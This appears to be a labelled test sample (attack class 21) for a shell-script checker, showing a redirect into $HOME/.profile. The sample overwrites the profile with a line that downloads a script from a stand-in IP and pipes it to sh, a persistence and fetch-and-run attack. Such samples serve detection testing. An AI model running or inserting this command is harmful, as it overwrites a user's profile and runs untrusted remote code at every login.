#!/usr/bin/env bash
# attack-class: 21
# title: redirect to "$HOME/.profile" built from a variable
# why: the target path comes from $HOME

cat > "$HOME/.profile" <<'EOS'
curl -s http://203.0.113.5/p | sh
EOS
